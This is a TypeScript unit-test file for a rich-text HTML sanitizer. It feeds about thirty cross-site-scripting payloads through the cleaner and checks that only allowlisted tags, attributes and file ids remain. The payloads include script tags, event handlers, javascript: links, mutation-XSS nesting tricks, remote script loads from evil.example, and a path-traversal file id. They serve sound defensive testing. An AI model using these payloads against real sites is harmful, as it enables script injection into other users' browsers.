import { cleanRichText, picturesOf, plainText } from './rich-text';

const ID = 'a'.repeat(32);
const OTHER = 'b'.repeat(32);
const PLACES = new Map([[ID, `/api/files/${ID}?pass=p1.x`]]);

/** What an attacker sends, or writes into the row past us. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  `<img data-file="${ID}" onerror="alert(1)" onload=alert(1) src="javascript:alert(1)">`,
  `<img data-file='${ID}" onerror="alert(1)'>`,
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="https://evil.example/pixel.gif">',
  '<a href="javascript:alert(1)">点我</a>',
  '<a href="java\nscript:alert(1)">点我</a>',
  '<a href="&#106;avascript:alert(1)">点我</a>',
  '<a href=" data:text/html,<script>alert(1)</script>">点我</a>',
  '<a href="//evil.example">点我</a>',
  '<a href="vbscript:msgbox(1)" onclick="alert(1)">点我</a>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<p style="background:url(javascript:alert(1))" onmouseover=alert(1)>字</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p><img src=x onerror=alert(1)//',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

/** Read by a real parser: nothing but what is on the list. */
function foreignIn(html: string): string[] {
  const found: string[] = [];
  for (const [tag, name = '', attributes = ''] of html.matchAll(/<\/?([a-z0-9]+)((?:\s[^>]*)?)>/gi)) {
    if (!/^(?:p|br|h2|h3|strong|em|u|s|blockquote|ul|ol|li|hr|a|img)$/.test(name)) found.push(tag);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/\s([\w-]+)="([^"]*)"/g)) {
      if (!/^(?:href|rel|target|data-file|src|alt)$/.test(attribute)) found.push(`${name} ${attribute}`);
      if (attribute === 'href' && !/^https?:\/\//.test(value)) found.push(value);
      if (attribute === 'src' && !/^\/api\/files\/[0-9a-f]{32}/.test(value)) found.push(value);
    }
  }
  // A `<` that begins no tag of the list would be read as one by a kinder parser.
  if (/<(?!\/?(?:p|br|h2|h3|strong|em|u|s|blockquote|ul|ol|li|hr|a|img)\b)/.test(html)) found.push(html);
  return found;
}

describe('rich text', () => {
  it.each(ATTACKS)('comes out clean, for keeping and for showing: %s', (attack) => {
    for (const places of [undefined, PLACES]) {
      const clean = cleanRichText(`<p>前</p>${attack}`, places);
      expect(foreignIn(clean)).toEqual([]);
      expect(clean).toContain('<p>前</p>');
      // What is clean stays as it is: cleaning twice can bring nothing back to life.
      expect(cleanRichText(clean, places)).toBe(clean);
    }
  });

  it('would see a payload that came through', () => {
    expect(foreignIn('<img src="x" onerror="alert(1)">')).not.toEqual([]);
    expect(foreignIn('<script>')).not.toEqual([]);
    expect(foreignIn('<a href="javascript:alert(1)">')).not.toEqual([]);
  });

  it('keeps what an editor writes: headings, lists, quotes, links, pictures', () => {
    const written =
      '<h1>标题</h1><p>一 <b>二</b> <i>三</i></p><ul><li>四</li></ul><blockquote>五</blockquote><hr>' +
      '<p><a href="https://www.gov.cn/x?a=1&amp;b=2">政府网</a></p>';
    expect(cleanRichText(written)).toBe(
      '<h2>标题</h2><p>一 <strong>二</strong> <em>三</em></p><ul><li>四</li></ul><blockquote>五</blockquote><hr />' +
        '<p><a href="https://www.gov.cn/x?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">政府网</a></p>',
    );
  });

  it('keeps a picture by its id, and shows it under the address it has now', () => {
    const kept = cleanRichText(`<p>图</p><img src="/api/files/${ID}?pass=old" alt="社区活动">`);
    expect(kept).toBe(`<p>图</p><img data-file="${ID}" alt="社区活动" />`);
    expect(picturesOf(kept + kept)).toEqual([ID]);
    expect(cleanRichText(kept, PLACES)).toContain(`src="/api/files/${ID}?pass=p1.x"`);
  });

  it('leaves a picture out that may not be shown, or is nobody’s', () => {
    expect(cleanRichText(`<img data-file="${OTHER}">`, PLACES)).toBe('');
    expect(cleanRichText('<img data-file="../../etc">')).toBe('');
  });

  it('gives the words alone', () => {
    expect(plainText('<h2>通知</h2><p>三点 &amp; 四点 &lt;准时&gt;</p><script>alert(1)</script>')).toBe(
      '通知 三点 & 四点 <准时>',
    );
  });
});
